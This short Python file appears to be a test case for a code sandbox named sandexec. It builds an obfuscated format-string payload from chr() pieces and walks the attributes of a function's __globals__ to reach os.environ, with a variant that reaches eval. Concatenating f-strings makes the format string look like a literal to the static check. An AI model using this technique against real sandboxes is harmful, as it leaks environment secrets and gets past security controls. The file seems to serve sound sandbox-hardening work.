# source: Python str.format field grammar (Lib/string.py Formatter.get_field: "{0.attr[key]}" is getattr/getitem), pyjail format-string leaks (e.g. CTF "format string attribute walk"); sandexec README, "The static check",: .format() only on a string literal
# family: run-time format string (getattr by name) via implicit concatenation: f"{runtime}" "" looks like a literal receiver
# goal: reads os.environ (get at os): f-string, empty f-string, then literal
import pandas as pd


def probe():
    return 0


u = chr(95) * 2
dot = chr(46)
# "{0.__globals__[pd].io.common.os.environ}" built at run time
fmt0 = chr(123) + "0" + dot + u + "globals" + u + "[pd]" + dot + "io" + dot + "common" + dot + "os" + dot + "environ" + chr(125)
fmt = chr(123) + "x" + dot + u + "globals" + u + "[pd]" + dot + "io" + dot + "common" + dot + "os" + dot + "environ" + chr(125)
fmtb = chr(123) + "0" + dot + u + "globals" + u + "[" + u + "builtins" + u + "][eval]" + chr(125)
fmts = chr(123) + "0" + dot + u + "globals" + u + "[pd]" + dot + "io" + dot + "common" + dot + "sys" + dot + "version" + chr(125)
d = {"x": probe}
print(f"{fmt0}" f"" "".format(probe))
